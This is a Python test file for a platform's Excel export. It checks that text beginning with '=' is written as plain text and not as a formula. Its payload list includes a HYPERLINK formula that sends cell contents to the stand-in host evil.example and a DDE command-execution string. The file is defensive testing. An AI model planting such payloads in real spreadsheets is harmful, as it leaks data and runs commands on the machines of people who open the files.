"""Formula injection: text that starts with ``=`` leaves every workbook the platform writes as text."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from soilgw.core.xlsx import frames_to_xlsx

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=1+1", "=cmd|' /C calc'!A0"]


def formulas_in(book: bytes) -> list[str]:
    """``<f>`` elements (stored formulas) in any sheet of an xlsx file."""
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def test_formula_text_is_written_as_text():
    book = frames_to_xlsx({"记录": pd.DataFrame({"名称": PAYLOADS, "数值": [1.5, 2, 3]})})
    assert formulas_in(book) == []
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert [sheet.cell(r, 1).value for r in (2, 3, 4)] == PAYLOADS  # the text itself, unchanged
    assert {sheet.cell(r, 1).data_type for r in (2, 3, 4)} == {"s"} and sheet.cell(2, 2).value == 1.5


def test_the_check_sees_a_formula():
    """Without the guard openpyxl stores ``=…`` as a formula: the test above could fail."""
    buf = io.BytesIO()
    pd.DataFrame({"名称": PAYLOADS}).to_excel(buf, index=False)
    assert formulas_in(buf.getvalue())


@pytest.mark.django_db
def test_a_registry_export_keeps_a_planted_name_as_text(client, county, make_user):
    from tests.enterprises.factories import enterprise

    enterprise(1, name=PAYLOADS[0])
    client.force_login(make_user("xlsx-editor", "eeb", "editor"))
    response = client.get("/enterprises/enterprises/?export=xlsx")
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
    assert PAYLOADS[0] in cells
